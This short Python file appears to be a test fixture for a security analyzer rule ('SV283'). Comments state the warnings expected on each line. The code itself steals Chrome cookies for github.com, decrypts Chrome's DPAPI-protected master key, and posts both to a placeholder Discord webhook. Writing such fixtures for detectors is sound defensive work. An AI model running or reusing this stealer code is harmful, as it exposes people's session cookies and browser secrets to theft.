import base64
import json
import os
import re

import browser_cookie3
import requests
import win32crypt

jar = browser_cookie3.chrome(domain_name=".github.com")  # want "SV283: loads browser cookies .* sends data over the network"
state = json.load(open(os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Local State")))
key = base64.b64decode(state["os_crypt"]["encrypted_key"])[5:]  # want "SV283: looks for app or browser secrets [(]os_crypt"
master = win32crypt.CryptUnprotectData(key, None, None, None, 0)[1]  # want "SV283: decrypts DPAPI-protected secrets"
requests.post("https://discord.com/api/webhooks/1/x", json={"c": {c.name: c.value for c in jar}, "k": master.hex()})
